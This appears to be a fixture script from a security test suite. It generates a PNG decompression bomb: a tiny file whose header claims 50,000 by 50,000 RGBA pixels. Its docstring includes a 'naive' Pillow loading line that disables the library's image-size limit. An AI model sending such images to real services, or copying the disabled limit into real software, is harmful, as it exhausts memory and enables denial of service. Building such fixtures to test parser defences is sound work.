"""
attacks = "Leave a picture of few bytes that is 10 GB when drawn."
promise = "harvest"
layers = []
observed = "ok"
control = "bare"
decode = "png"
naive = "from PIL import Image; Image.MAX_IMAGE_PIXELS = None; print('GOT a picture of', Image.open(trick).size)"
"""
import struct
import zlib


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 0))
data = b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 10**6)) + chunk(b"IEND", b"")
open("../out/trick", "wb").write(data)
